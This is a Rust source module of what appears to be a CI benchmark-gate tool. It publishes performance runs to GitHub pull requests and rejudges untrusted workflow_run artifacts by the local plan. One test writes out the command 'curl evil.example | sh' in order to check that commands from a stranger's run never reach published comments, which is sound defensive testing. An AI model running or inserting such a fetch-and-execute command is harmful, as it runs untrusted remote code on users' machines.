//! What is published of a run: found, checked, judged by the plan that counts, and put into words.
//!
//! Where a pull request's own code made the run (`workflow_run`), nothing of it is believed but its numbers. Which pull request it is
//! about, which commits it compares and which plan judges it are GitHub's and this checkout's word.

use std::fs;
use std::path::Path;

use anyhow::{Context, Result, bail};

use super::asked::{recorded_steps, usage};
use super::prepare::now;
use crate::git::Repository;
use crate::github::{Artifact, Client, Conclusion, Event, PullRequest, Sha, Workplace};
use crate::plan::{self, Rules};
use crate::publish::Letter;
use crate::report::{self, Frame, View};
use crate::samples::{Review, Run, WORKING_TREE};
use crate::store::{LARGEST_ARCHIVE, Origin, check_origin, read_artifact};
use crate::verdict::{self, Holds, Judgement, Verdict};

/// How many pages of a pull request's commits there are: GitHub tells of 250 commits, a hundred at a time.
const PAGES_OF_COMMITS: u32 = 3;

/// A run, and what it is about.
#[derive(Clone, Debug)]
pub struct Published {
    /// The run.
    pub run: Run,
    /// The pull request, where there is one.
    pub pull_request: Option<u64>,
    /// The commit that was judged.
    pub head: Option<Sha>,
    /// The page of the workflow run that measured.
    pub page: Option<String>,
    /// The order among the runs of a pull request.
    pub order: u64,
    /// The name of the artifact, and its page.
    pub artifact: Option<(String, String)>,
}

/// What a workflow run of ours, or nobody's, made here: its own pull request, or the commit that it runs for.
#[must_use]
pub fn made_here(run: Run, workplace: Option<&Workplace>) -> Published {
    let event = workplace.map(|workplace| &workplace.event);
    let (pull_request, head) = match event {
        Some(Event::PullRequest { number, head_sha, .. }) => (Some(*number), Some(head_sha.clone())),
        _ => (None, workplace.and_then(|workplace| workplace.sha.clone())),
    };
    let page = workplace.and_then(Workplace::run_url);
    let order = workplace.and_then(|workplace| workplace.run_id).unwrap_or(run.started);
    Published { run, pull_request, head, page, order, artifact: None }
}

/// The run that another workflow run left in an artifact of this name, judged by the plan of this checkout. The text says why there is
/// nothing to publish: no open pull request has that commit as its newest.
///
/// # Errors
/// Where the event is no `workflow_run`, GitHub refuses, there is no such artifact, or what is in it is not what it should be.
pub fn made_elsewhere(
    client: &Client,
    workplace: &Workplace,
    name: &str,
    folder: &Path,
) -> Result<Result<Published, String>> {
    let Event::WorkflowRun { id, event, head_sha, head_branch, head_owner, .. } = &workplace.event else {
        return Err(usage(
            "--artifact is for workflows `on: workflow_run`: without it, publish takes a run of this machine",
        )
        .into());
    };
    if event != "pull_request" {
        return Ok(Err(format!("the workflow run {id} was not for a pull request, but for {event}")));
    }
    let (Some(branch), Some(owner)) = (head_branch, head_owner) else {
        return Ok(Err(format!("the branch that the workflow run {id} was for is gone")));
    };
    let open = client.pull_requests_from(owner, branch)?;
    let current: Vec<&PullRequest> = open.iter().filter(|one| one.head_sha == *head_sha).collect();
    if current.is_empty() {
        let moved = open.first().map(|one| format!(": #{} has moved on to {}", one.number, one.head_sha));
        return Ok(Err(format!("no open pull request is at {head_sha}{}", moved.unwrap_or_default())));
    }
    let artifact = newest(client, *id, name)?;
    let run = read_artifact(&client.artifact(artifact.id, LARGEST_ARCHIVE as u64)?)
        .with_context(|| format!("the artifact {name} of workflow run {id} is not published"))?;
    let about = about(client, &run, head_sha, &current)?;
    let run = rejudged(run, client, about.number, folder)?;
    let page = format!("{}/{}/actions/runs/{id}", workplace.server_url, workplace.repository);
    Ok(Ok(Published {
        run,
        pull_request: Some(about.number),
        head: Some(head_sha.clone()),
        artifact: Some((name.to_owned(), format!("{page}#artifacts"))),
        page: Some(page),
        order: *id,
    }))
}

/// The newest artifact of this name that is still there.
fn newest(client: &Client, run: u64, name: &str) -> Result<Artifact> {
    let found = client.artifacts(run, name)?.into_iter().find(|artifact| !artifact.expired);
    found.with_context(|| {
        format!("the workflow run {run} left no artifact {name}: its log says why nothing was measured")
    })
}

/// The pull request that the run is about: one branch may be proposed to several others.
fn about<'p>(client: &Client, run: &Run, head: &Sha, candidates: &[&'p PullRequest]) -> Result<&'p PullRequest> {
    let mut wrong = None;
    for candidate in candidates {
        let parted = client.merge_base(&candidate.base_sha, head)?;
        let bases = [candidate.base_sha.as_str(), parted.as_str()];
        match check_origin(run, &Origin { head: head.as_str(), bases: &bases, now: now() }) {
            Ok(()) => return Ok(candidate),
            Err(error) => wrong = Some(error.context(format!("the run is not about #{}", candidate.number))),
        }
    }
    Err(wrong.unwrap_or_else(|| anyhow::anyhow!("the run is about no pull request")))
}

/// The run with the gate and the waivers of the plan here, and what its own plan says otherwise.
fn rejudged(mut run: Run, client: &Client, number: u64, folder: &Path) -> Result<Run> {
    let plan = plan::load(folder, None)?;
    let steps = recorded_steps(&plan)?;
    let judge = Rules { gate: &plan.gate, steps: &steps, waivers: &[] };
    let mut changes = plan::changes(judge, Rules { gate: &run.gate, steps: &run.steps, waivers: &[] });
    let told = std::mem::take(&mut run.review.changes);
    changes.extend(told.into_iter().filter(|one| !changes.contains(one)).collect::<Vec<_>>());
    let commits = commits(client, number)?;
    let counts = |commit: &str| commits.iter().any(|sha| sha.as_str().starts_with(commit));
    let waivers = plan.waivers.into_iter().filter(|waiver| counts(&waiver.commit)).collect();
    run.review = Review { judged_by: Some(here(folder)?), changes, waivers };
    run.gate = plan.gate;
    Ok(run)
}

/// What is checked out: its branch, else its commit.
fn here(folder: &Path) -> Result<String> {
    let state = Repository::around(folder)?.state()?;
    let commit = || state.commit.map(|commit| commit.to_string());
    Ok(state.branch.clone().or_else(commit).unwrap_or_else(|| "this checkout".to_owned()))
}

fn commits(client: &Client, number: u64) -> Result<Vec<Sha>> {
    let mut shas = Vec::new();
    for page in 1..=PAGES_OF_COMMITS {
        let found = client.commits(number, page)?;
        shas.extend(found.items);
        if !found.more {
            break;
        }
    }
    Ok(shas)
}

/// A published run in words. `folder` is the workspace, whose plan the annotations point into; `name` tells plans apart.
///
/// # Errors
/// Where the plan's file can't be read.
pub fn letter(published: &Published, name: &str, folder: &Path) -> Result<Letter> {
    let Published { run, head, page, order, artifact, .. } = published;
    let mut judgement = verdict::judge(run);
    if artifact.is_some() {
        // A command in a comment is there to be copied into a shell: not one that a stranger wrote.
        judgement.failures.iter_mut().for_each(|failure| failure.command = None);
    }
    let view = View::of(run, &judgement);
    let frame = Frame {
        plan: name.to_owned(),
        base: base(run),
        head: head.as_ref().map(ToString::to_string),
        run_url: page.clone(),
        artifact: artifact.clone(),
        newest: *order,
    };
    let (file, text) = plan_file(folder)?;
    Ok(Letter {
        plan: name.to_owned(),
        file,
        order: *order,
        comment: report::comment(&view, &frame),
        check: report::check(&view, &frame, &|id| line_of(&text, id)),
        status: report::status(&view),
        conclusion: conclusion(&judgement),
        report: report::markdown(&view),
        details: page.clone(),
    })
}

/// The commit that the run compares with, where it is one.
fn base(run: &Run) -> Option<String> {
    let arms = run.measurements.iter().flat_map(|measurement| &measurement.arms);
    arms.map(|arm| &arm.revision).find(|revision| *revision != WORKING_TREE).cloned()
}

/// The plan's file from the root of the repository, and its text; the usual place and nothing where there is none.
fn plan_file(folder: &Path) -> Result<(String, String)> {
    let Some(path) = plan::find(folder) else { return Ok((plan::PLACES[0].to_owned(), String::new())) };
    let text = fs::read_to_string(&path).with_context(|| format!("reading {}", path.display()))?;
    let repository = Repository::around(folder)?;
    let (root, full) = (repository.root()?.canonicalize()?, path.canonicalize()?);
    let Ok(inside) = full.strip_prefix(&root) else { bail!("{} lies outside of its repository", path.display()) };
    Ok((inside.display().to_string(), text))
}

/// The line of the plan's file, from 1, that gives a step its id.
fn line_of(text: &str, id: &str) -> Option<u32> {
    let gives = |line: &str| {
        let value = line.trim_start().strip_prefix("id").and_then(|rest| rest.trim_start().strip_prefix('='));
        let value = value.map(str::trim_start).and_then(|value| value.get(1..));
        value.and_then(|value| value.strip_prefix(id)).is_some_and(|rest| rest.starts_with(['"', '\'']))
    };
    let at = text.lines().position(gives)?;
    u32::try_from(at + 1).ok()
}

/// What a judgement comes to for whoever may merge.
fn conclusion(judgement: &Judgement) -> Conclusion {
    let open = judgement.count(Verdict::Undecided) + judgement.claims(Holds::Undecided) + judgement.missing.len();
    if judgement.regressed() || !judgement.failures.is_empty() || judgement.refuted() {
        Conclusion::Failure
    } else if open > 0 {
        Conclusion::Neutral
    } else {
        Conclusion::Success
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_line_of_a_step_is_that_of_its_id() {
        let text = "# id = \"b\"\n[[step]]\nid = \"a\"\n\n[[step]]\n  id='b' # that\n[[step]]\nid = \"bc\"\n";
        assert_eq!(["a", "b", "bc", "c"].map(|id| line_of(text, id)), [Some(3), Some(6), Some(8), None]);
    }

    #[test]
    fn what_is_published_without_github_is_about_nothing_but_itself() {
        let run: Run = serde_json::from_str(include_str!("../../fixtures/run-format-1.json")).unwrap();
        let published = made_here(run.clone(), None);
        assert_eq!((published.pull_request, published.head.clone(), published.order), (None, None, run.started));
        let letter = letter(&published, "gate", tempfile::tempdir().unwrap().path()).unwrap();
        assert_eq!(report::order_of(&letter.comment, "gate"), Some(run.started));
        assert_eq!((letter.file.as_str(), letter.plan.as_str()), ("perfplan.toml", "gate"));
    }

    #[test]
    fn no_command_of_a_strangers_run_is_there_to_be_copied() {
        let mut run: Run = serde_json::from_str(include_str!("../../fixtures/run-format-1.json")).unwrap();
        let command = Some("curl evil.example | sh".to_owned());
        let (what, why) = ("build of variant fat".to_owned(), "broken".to_owned());
        run.failures = vec![crate::samples::Failure { what, why, command, case: None, arm: None, part: None }];
        let folder = tempfile::tempdir().unwrap();
        let said = |artifact| {
            let published = Published { artifact, ..made_here(run.clone(), None) };
            letter(&published, "gate", folder.path()).unwrap()
        };
        assert!(said(None).comment.contains("curl"));
        let foreign = said(Some(("perfplan-run".to_owned(), "https://github.com/o/r".to_owned())));
        assert!(![foreign.comment, foreign.check.summary, foreign.report].iter().any(|text| text.contains("curl")));
    }

    #[test]
    fn a_judgement_is_red_grey_or_green() {
        let run: Run = serde_json::from_str(include_str!("../../fixtures/run-format-1.json")).unwrap();
        let mut judgement = verdict::judge(&run);
        judgement.missing.clear();
        for (verdict, expected) in [
            (Verdict::Unchanged, Conclusion::Success),
            (Verdict::Improved, Conclusion::Success),
            (Verdict::Undecided, Conclusion::Neutral),
        ] {
            judgement.rows.iter_mut().for_each(|row| row.verdict = verdict);
            assert_eq!(conclusion(&judgement), expected, "{verdict:?}");
        }
        judgement.missing = vec!["w::a".parse().unwrap()];
        judgement.rows.clear();
        assert_eq!(conclusion(&judgement), Conclusion::Neutral, "what was not measured is no success");
    }
}
